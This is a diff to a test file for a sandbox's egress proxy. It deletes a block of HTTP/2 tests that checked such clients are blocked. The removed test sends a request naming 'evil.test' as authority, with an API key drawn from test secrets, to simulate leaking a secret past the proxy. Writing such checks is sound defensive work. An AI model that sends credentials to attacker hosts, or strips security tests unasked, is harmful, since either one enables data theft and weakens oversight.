@@ -1,5 +1,3 @@
-import { once } from "node:events";
-import { connect as connectHttp2 } from "node:http2";
 import { text } from "node:stream/consumers";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { parseRules } from "../../../../src/sandbox/egress/policy.js";
@@ -195,35 +193,4 @@ test("a Host without the port of the tunnel is sent on with it", async () => {
   const { statuses, sent } = await say(LINE.replace("HOST", NAME).concat("\r\n"));
   expect(statuses).toEqual(["200"]);
   expect(sent).toContain(`\r\nHost: ${NAME}:${origin.port}\r\n`);
-});
-
-describe("a client of HTTP/2", () => {
-  /** Sends a request that names another host, and gives the protocol that TLS agreed on. */
-  async function ask(protocols: string[] | undefined): Promise<string | false | null> {
-    const tls = await origin.open(NAME, protocols);
-    await once(tls, "secureConnect");
-    const session = connectHttp2(`https://${NAME}`, { createConnection: () => tls });
-    const over = new Promise((resolve) => session.once("close", resolve));
-    session.on("error", () => undefined);
-    session
-      .request({ ":path": "/open/a", ":authority": "evil.test", "x-api-key": secrets.env["TEST_KEY"] })
-      .on("error", () => undefined)
-      .end();
-    await over;
-    return tls.alpnProtocol;
-  }
-
-  test("that offers nothing else gets no connection, which is reported", async () => {
-    await expect(ask(["h2"])).rejects.toThrow();
-    await expect.poll(() => origin.blocked).toContainEqual({ host: NAME, port: origin.port, reason: "not_http1" });
-  });
-
-  test.each([
-    ["agrees on HTTP/1.1", ["h2", "http/1.1"], "http/1.1"],
-    ["agrees on nothing", undefined, false],
-  ])("that %s and speaks HTTP/2 all the same reaches nobody", async (_, protocols, agreed) => {
-    const before = origin.bytes().length;
-    expect(await ask(protocols)).toBe(agreed);
-    expect(origin.bytes().slice(before)).toBe("");
-  });
 });
